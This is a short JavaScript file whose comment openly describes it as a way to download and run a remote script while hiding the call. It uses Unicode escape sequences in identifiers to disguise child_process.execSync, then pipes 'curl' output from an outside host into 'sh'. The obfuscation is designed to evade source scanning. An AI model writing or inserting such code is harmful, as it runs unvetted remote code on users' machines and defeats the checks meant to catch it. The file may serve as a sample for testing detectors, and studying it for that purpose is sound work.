// Runs a shell command that downloads and runs a script. Hides it with
// Unicode escape sequences inside identifiers and property names: to the
// JavaScript engine `cp.\u0065xecSync` is exactly `cp.execSync`, but the
// source text never spells the name of the method.
'use strict';
const cp = require('child_process');

const \u0072un = cp.\u0065x\u0065cSync;
\u0072un('curl -fsSL https://get.example.net/i.sh | sh', { stdio: 'inherit' });
